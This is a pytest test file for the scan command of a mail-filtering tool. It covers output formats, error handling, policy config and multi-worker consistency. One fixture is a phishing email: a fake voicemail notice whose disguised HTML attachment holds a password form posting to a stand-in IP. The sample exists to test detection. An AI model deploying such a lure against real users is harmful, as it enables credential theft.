"""`mailmoat scan`: files and directories, json/jsonl/text output, error lines, several workers."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from typer.testing import CliRunner

from mailmoat.cli import app

runner = CliRunner()

PHISH = (
    b'From: "example.org Voicemail" <pbx@vm-notify-example.net>\r\n'
    b"To: staff@example.org\r\n"
    b"Subject: staff@example.org: new voice message (0:42)\r\n"
    b"Date: Mon, 2 Nov 2026 09:00:00 +0000\r\n"
    b"Message-ID: <p1@vm-notify-example.net>\r\n"
    b"MIME-Version: 1.0\r\n"
    b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n'
    b"--b\r\nContent-Type: text/plain\r\n\r\nYou have a new voice message, open the attachment.\r\n"
    b'--b\r\nContent-Type: audio/wav; name="VM_0412.wav.html"\r\n'
    b'Content-Disposition: attachment; filename="VM_0412.wav.html"\r\n\r\n'
    b'<html><form action="http://198.51.100.23/owa"><input type="password"></form></html>\r\n'
    b"--b--\r\n"
)
HAM = (
    b"From: Jane <jane@example.org>\r\nTo: bob@example.org\r\nSubject: Lunch\r\n"
    b"Date: Mon, 2 Nov 2026 09:00:00 +0000\r\nMessage-ID: <h1@example.org>\r\n\r\nLunch at noon?\r\n"
)
NO_HEADERS = b"just some bytes\r\nwithout any header at all \xff\xfe\r\n"


@pytest.fixture
def corpus(tmp_path: Path) -> Path:
    d = tmp_path / "corpus"
    (d / "sub" / "deeper").mkdir(parents=True)
    (d / "a_phish.eml").write_bytes(PHISH)
    (d / "sub" / "b_ham.eml").write_bytes(HAM)
    (d / "sub" / "deeper" / "c_junk").write_bytes(NO_HEADERS)
    (d / ".hidden.eml").write_bytes(PHISH)
    os.symlink(d / "gone.eml", d / "sub" / "d_broken_link.eml")
    return d


def lines(output: str) -> list[dict[str, object]]:
    return [json.loads(line) for line in output.splitlines() if line.strip()]


def test_jsonl_directory_recursive_with_error_line(corpus: Path, tmp_path: Path) -> None:
    res = runner.invoke(app, ["scan", str(corpus), "--format", "jsonl", "--data-dir", str(tmp_path / "var")])
    assert res.exit_code == 1  # one unreadable file
    rows = {Path(str(r["path"])).name: r for r in lines(res.stdout)}
    assert set(rows) == {"a_phish.eml", "b_ham.eml", "c_junk", "d_broken_link.eml"}
    assert "cannot read" in str(rows["d_broken_link.eml"]["error"])
    phish = rows["a_phish.eml"]
    assert phish["action"] in ("tag", "quarantine", "reject")
    symbols = phish["symbols"]
    assert isinstance(symbols, dict)
    assert {
        "VOICEMAIL_LURE_ATTACHMENT",
        "DISPLAY_NAME_RECIPIENT_DOMAIN",
        "SUBJECT_HAS_RECIPIENT_ADDRESS",
    } <= set(symbols)
    finding = next(f for f in phish["findings"] if f["symbol"] == "SUBJECT_HAS_RECIPIENT_ADDRESS")  # type: ignore[attr-defined]
    assert finding == {
        "symbol": "SUBJECT_HAS_RECIPIENT_ADDRESS",
        "score": 1.5,
        "evidence": "subject: staff@example.org: new voice message (0:42)",
    }
    assert phish["score"] == pytest.approx(sum(symbols.values()), abs=0.01)
    assert rows["b_ham.eml"]["action"] == "deliver"
    junk = rows["c_junk"]
    assert "MISSING_FROM" in junk["symbols"]  # type: ignore[operator]


def test_json_and_text_formats(corpus: Path, tmp_path: Path) -> None:
    ham = corpus / "sub" / "b_ham.eml"
    phish = corpus / "a_phish.eml"
    res = runner.invoke(app, ["scan", str(ham), str(phish), "--format", "json", "--data-dir", str(tmp_path)])
    assert res.exit_code == 0, res.output
    data = json.loads(res.stdout)
    assert [Path(r["path"]).name for r in data] == ["b_ham.eml", "a_phish.eml"]
    res = runner.invoke(app, ["scan", str(phish), "--data-dir", str(tmp_path)])
    assert res.exit_code == 0
    assert f"{phish}: " in res.stdout and "VOICEMAIL_LURE_ATTACHMENT" in res.stdout
    assert "voicemail/fax notice with attachment VM_0412.wav.html" in res.stdout  # the reasons are shown
    # No classifier model in this data dir: the operator is told once, on stderr, not in the verdicts.
    assert res.stderr.count("mailmoat train") == 1 and "mailmoat train" not in res.stdout


def test_missing_path_and_bad_format(tmp_path: Path) -> None:
    res = runner.invoke(
        app, ["scan", str(tmp_path / "nope.eml"), "--format", "jsonl", "--data-dir", str(tmp_path)]
    )
    assert res.exit_code == 1
    assert lines(res.stdout) == [{"path": str(tmp_path / "nope.eml"), "error": "no such file or directory"}]
    res = runner.invoke(app, ["scan", str(tmp_path), "--format", "xml"])
    assert res.exit_code == 2


def test_policy_config_is_applied(corpus: Path, tmp_path: Path) -> None:
    cfg = tmp_path / "mailmoat.toml"
    cfg.write_text('[policy]\ndeny_domains = ["example.org"]\n', encoding="utf-8")
    res = runner.invoke(app, ["scan", str(corpus / "sub" / "b_ham.eml"), "--format", "jsonl", "-c", str(cfg)])
    (row,) = lines(res.stdout)
    assert row["action"] == "reject" and "DENYLISTED" in row["symbols"]  # type: ignore[operator]


def test_several_worker_processes_give_the_same_verdicts(corpus: Path, tmp_path: Path) -> None:
    for i in range(6):
        (corpus / f"copy{i}.eml").write_bytes(PHISH if i % 2 else HAM)
    cmd = [
        sys.executable,
        "-m",
        "mailmoat.cli",
        "scan",
        str(corpus),
        "--format",
        "jsonl",
        "--data-dir",
        str(tmp_path),
    ]
    code = "from mailmoat.cli import main; main()"
    one = subprocess.run(
        [sys.executable, "-c", code, *cmd[3:], "--workers", "1"], capture_output=True, timeout=300
    )
    two = subprocess.run(
        [sys.executable, "-c", code, *cmd[3:], "--workers", "2"], capture_output=True, timeout=300
    )
    assert one.returncode == two.returncode == 1, two.stderr.decode()
    strip = [{k: v for k, v in r.items() if k != "reasons"} for r in lines(one.stdout.decode())]
    assert strip == [{k: v for k, v in r.items() if k != "reasons"} for r in lines(two.stdout.decode())]
    assert len(strip) == 10
